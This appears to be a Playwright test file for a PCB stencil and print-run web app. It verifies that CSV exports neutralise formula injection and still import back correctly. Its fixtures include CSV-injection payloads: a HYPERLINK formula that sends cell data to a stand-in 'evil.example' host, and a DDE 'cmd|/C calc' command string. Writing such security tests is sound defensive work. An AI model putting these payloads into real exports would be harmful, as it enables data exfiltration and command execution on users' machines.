import { expect, test } from '@playwright/test';
import Papa from 'papaparse';
import { escapedText } from '../../src/lib/csv/write-csv';
import { bearer, signInAs, tokenFor } from './helpers';

/** Formula-like text gets one leading apostrophe (rules and unit tests in src/lib/csv/); the rest reads back as is. */
const escaped = escapedText;

function readCsv(text: string): string[][] {
	expect(text.endsWith('\r\n')).toBe(true);
	const parsed = Papa.parse<string[]>(text.slice(0, -2), { delimiter: ',', newline: '\r\n' });
	expect(parsed.errors).toEqual([]);
	return parsed.data;
}

const HOSTILE_REFDES = [
	'=HYPERLINK("http://evil.example/?"&A1,"open")',
	'+1+2',
	"-2+3*cmd|' /C calc'!A0",
	'@SUM(1+1)',
	'say "hi", then\nleave',
	'R1\r\n=1+2'
];

test.describe('CSV exports over HTTP', () => {
	test('the aperture CSV keeps hostile names in their cells and imports again unchanged', async ({
		page,
		request
	}) => {
		const engineer = bearer(tokenFor('engineer'));
		const name = `Evil ${Date.now() % 1_000_000}\n=HYPERLINK("http://evil.example","x"), "rev"`;
		const created = await request.post('/api/stencils', {
			headers: engineer,
			data: { name, revision: 'A', thicknessUm: 127, technology: 'laser-stainless' }
		});
		expect(created.status()).toBe(201);
		const stencil = await created.json();
		const apertures = [
			...HOSTILE_REFDES.map((refdes, i) => ({
				refdes,
				pad: `=${i}`,
				shape: 'rectangle',
				lengthUm: 1000,
				widthUm: 300,
				xUm: -1500 * (i + 1),
				yUm: 250
			})),
			{
				refdes: 'Q1',
				pad: '-3',
				shape: 'polygon',
				verticesUm: [
					[-500, -300],
					[500, -300],
					[500, 300],
					[-500, 300]
				]
			}
		];
		const imported = await request.post(`/api/stencils/${stencil.id}/apertures`, {
			headers: engineer,
			data: { apertures }
		});
		expect(imported.status()).toBe(201);

		await signInAs(page, 'viewer');
		const answer = await page.request.get(`/stencils/${stencil.id}/apertures.csv`);
		expect(answer.status()).toBe(200);
		expect(answer.headers()['content-disposition']).toMatch(/^attachment; filename="[\w.-]+"$/);
		const text = await answer.text();
		const rows = readCsv(text);
		expect(rows[0]).toHaveLength(1);
		expect(rows[0][0]).toContain(name);
		const header = rows[1];
		const col = (n: string) => header.indexOf(n);
		const body = rows.slice(2);
		expect(body).toHaveLength(apertures.length);
		for (const a of apertures) {
			const row = body.find((r) => r[col('refdes')] === escaped(a.refdes));
			expect(row, JSON.stringify(a.refdes)).toBeDefined();
			expect(row![col('pad')]).toBe(escaped(a.pad));
		}
		// Number lists are not escaped, so polygon vertices read back as numbers.
		expect(body.find((r) => r[col('refdes')] === 'Q1')![col('vertices')]).toBe(
			'-500 -300;500 -300;500 300;-500 300'
		);

		// The export is our import layout in µm: it imports into a new stencil as the same apertures.
		const copy = await request.post('/api/stencils', {
			headers: engineer,
			data: {
				name: `${stencil.id} copy ${Date.now()}`,
				revision: 'A',
				thicknessUm: 127,
				technology: 'laser-stainless'
			}
		});
		const copyId = (await copy.json()).id;
		const again = await request.post(
			`/api/stencils/${copyId}/apertures?fileName=copy.csv&unit=um`,
			{
				headers: { ...engineer, 'content-type': 'text/csv' },
				data: text
			}
		);
		expect(again.status(), await again.text()).toBe(201);
		const listed = await request.get(`/api/stencils/${copyId}/apertures`, { headers: engineer });
		const back = (await listed.json()).apertures as { refdes: string; pad: string; xUm: number }[];
		expect(back).toHaveLength(apertures.length);
		// What a spreadsheet keeps as text (with its apostrophe) is what comes back; the importer
		// reads every line end inside a cell as \n.
		expect(back.map((a) => a.refdes).sort()).toEqual(
			apertures.map((a) => escaped(a.refdes).trim().replace(/\r\n?/g, '\n')).sort()
		);
		expect(back.map((a) => a.xUm).sort()).toEqual(
			apertures.map((a) => ('xUm' in a ? a.xUm : 0)).sort()
		);
	});

	test('the print-run CSV writes a hostile board serial as text', async ({ request }) => {
		const n = Date.now() % 100000;
		const line = `CSV-L${n}`;
		const product = `CSV-P${n}`;
		const engineer = bearer(tokenFor('engineer'));
		const technician = bearer(tokenFor('technician'));
		await request.post('/api/lines', { headers: engineer, data: { code: line, name: 'csv line' } });
		await request.post('/api/products', {
			headers: engineer,
			data: { code: product, name: 'csv board' }
		});
		const parameters = {
			squeegeeAngleDeg: 60,
			squeegeeSpeedMmS: 40,
			squeegeePressureKg: 7.5,
			separationSpeedMmS: 1,
			printStroke: 'alternating'
		};
		const windows = {
			squeegeeAngleDeg: { min: 45, target: 60, max: 60 },
			squeegeeSpeedMmS: { min: 20, target: 40, max: 100 },
			squeegeePressureKg: { min: 4.5, target: 7.5, max: 10.5 },
			separationSpeedMmS: { min: 0.5, target: 1, max: 3 },
			printStroke: 'alternating'
		};
		expect(
			(
				await request.post('/api/recipes', {
					headers: engineer,
					data: { line, product, parameters: windows }
				})
			).status()
		).toBe(201);
		const serials = [
			'=HYPERLINK("http://evil.example","open")',
			'+SUM(1,2)',
			'@cmd',
			'-2+3',
			'FW-P1-000777'
		];
		for (const [i, boardSerial] of serials.entries()) {
			const started = await request.post('/api/print-runs', {
				headers: technician,
				data: {
					line,
					product,
					stencil: 'ST-PB100',
					pasteLot: 'PL-2026-0412',
					parameters,
					boardSerial,
					startedAt: `2026-01-07T0${i}:00:00Z`
				}
			});
			expect(started.status(), await started.text()).toBe(201);
			// One open run per line: end it before the next.
			const ended = await request.post(`/api/print-runs/${(await started.json()).id}/end`, {
				headers: technician,
				data: { endedAt: `2026-01-07T0${i}:30:00Z`, boardsPrinted: 10 }
			});
			expect(ended.status()).toBe(200);
		}
		const csv = await request.get(`/api/print-runs/export.csv?line=${line}`, {
			headers: bearer(tokenFor('viewer'))
		});
		const rows = readCsv(await csv.text());
		const column = rows[0].indexOf('boardSerial');
		expect(
			rows
				.slice(1)
				.map((r) => r[column])
				.sort()
		).toEqual(serials.map(escaped).sort());
		expect(escaped('=HYPERLINK("http://evil.example","open")')).toBe(
			`'=HYPERLINK("http://evil.example","open")`
		);
	});

	test("the chart's CSV download in the browser is written by the same writer", async ({
		page
	}) => {
		await signInAs(page, 'quality');
		await page.goto('/charts');
		await page.locator('a[href^="/charts/"]:not([href="/charts/new"])').first().click();
		const [download] = await Promise.all([
			page.waitForEvent('download'),
			page.getByRole('button', { name: 'CSV' }).click()
		]);
		const chunks: Buffer[] = [];
		for await (const chunk of (await download.createReadStream())!) chunks.push(chunk as Buffer);
		const rows = readCsv(Buffer.concat(chunks).toString('utf8'));
		expect(rows[0]).toEqual([
			'index',
			'label',
			'time',
			'n',
			'location',
			'dispersion',
			'moving_range',
			'excluded',
			'signals'
		]);
		expect(rows.length).toBeGreaterThan(1);
		for (const row of rows.slice(1)) {
			expect(Number.isFinite(Number(row[4])), row.join(',')).toBe(true);
			// A label (board serial) never starts like a formula once written.
			expect(row[1]).not.toMatch(/^[=+\-@\t\r]/);
		}
	});
});
